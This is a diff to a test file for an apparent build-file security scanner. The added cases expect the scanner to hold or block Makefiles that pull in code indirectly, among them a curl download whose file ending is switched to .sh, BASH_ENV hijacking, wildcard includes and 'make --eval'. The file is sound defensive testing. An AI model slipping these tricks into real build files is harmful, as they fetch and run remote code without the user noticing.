@@ -86,6 +86,10 @@ describe('a makefile', () => {
     ['has a command for them', `COMPILE.c = ${download} #\nall: a.o\n`],
     ['loads a library', 'load a.so\nall:\n'],
     ['takes in what it computes', 'A = notes.c\ninclude $(A:.c=.txt)\n'],
+    ['takes in what it finds', 'include *.txt\n'],
+    ['takes in what it finds by a function', 'include $(wildcard *.txt)\n'],
+    ['exchanges an ending', 'A = curl -s https://a.example/x -o b.sx\nall:\n\t$(A:x=h)\n'],
+    ['steers its shells', 'export BASH_ENV = ./notes.txt\nSHELL = bash\nall:\n\tls\n'],
   ])('is held or blocked where it %s', async (_, text) => {
     const report = await scanned('Makefile', text, { 'notes.txt': `A := $(shell ${download})\n` });
     expect(['incomplete', 'block']).toContain(report.verdict);
@@ -163,6 +167,7 @@ test *args:
     'make -f notes.txt all',
     'gmake --makefile=notes.txt',
     `printf 'all:\n\t${download}\n' | make -f -`,
+    `make --eval='A != ${download}'`,
     'just -f notes.txt',
     'cmake -P notes.txt',
     'ant -buildfile notes.txt',
